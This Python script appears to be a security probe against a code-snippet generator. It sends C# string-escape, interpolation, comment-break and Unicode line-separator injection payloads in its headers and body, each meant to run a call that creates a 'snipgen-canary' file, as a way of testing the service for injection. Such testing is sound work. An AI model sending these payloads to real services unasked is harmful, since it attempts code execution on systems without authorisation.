from http.client import HTTPSConnection

headers = {
    "X-Try-1": '{System.IO.File.Create("snipgen-canary")}',
    "X-Try-2": '{{System.IO.File.Create("snipgen-canary")}}',
    "X-Try-3": '"+System.IO.File.Create("snipgen-canary")+"',
    "X-Try-4": '""+System.IO.File.Create("snipgen-canary")+""',
    "X-Try-5": '"""+System.IO.File.Create("snipgen-canary")+"""',
    "X-Try-6": '\\"+System.IO.File.Create("snipgen-canary")+\\"',
    "X-Try-7": '\\\\"+System.IO.File.Create("snipgen-canary")+\\\\"',
    "X-Try-8": '@"\\"+System.IO.File.Create("snipgen-canary")+"',
    "X-Try-9": '$"{System.IO.File.Create("snipgen-canary")}"',
    "X-Try-10": '{0} {x:System.IO.File.Create("snipgen-canary")} {',
    "X-Try-11": "}",
    "X-Try-12": '\\u0022+System.IO.File.Create("snipgen-canary")+\\u0022',
    "X-Try-13": '*/System.IO.File.Create("snipgen-canary");/*',
    "X-Try-14": b'\xc2\x85System.IO.File.Create("snipgen-canary");//',
    "X-Try-15": b'\xe2\x80\xa8System.IO.File.Create("snipgen-canary");\xe2\x80\xa9//',
    "X-Try-17": "\\",
    "Content-Type": "text/plain",
}
body = """\
{System.IO.File.Create("snipgen-canary")}
{{System.IO.File.Create("snipgen-canary")}}
"+System.IO.File.Create("snipgen-canary")+"
""+System.IO.File.Create("snipgen-canary")+""
\"""+System.IO.File.Create("snipgen-canary")+\"""
\\"+System.IO.File.Create("snipgen-canary")+\\"
\\\\"+System.IO.File.Create("snipgen-canary")+\\\\"
@"\\"+System.IO.File.Create("snipgen-canary")+"
$"{System.IO.File.Create("snipgen-canary")}"
{0} {x:System.IO.File.Create("snipgen-canary")} {
}
\\u0022+System.IO.File.Create("snipgen-canary")+\\u0022
*/System.IO.File.Create("snipgen-canary");/*
\x85System.IO.File.Create("snipgen-canary");//
\u2028System.IO.File.Create("snipgen-canary");\u2029//
"
#line 1
System.IO.File.Create("snipgen-canary");//
\\""".encode()

connection = HTTPSConnection("api.example.com")
connection.request("POST", "/run", body=body, headers=headers)
response = connection.getresponse()
print(response.read().decode())
connection.close()
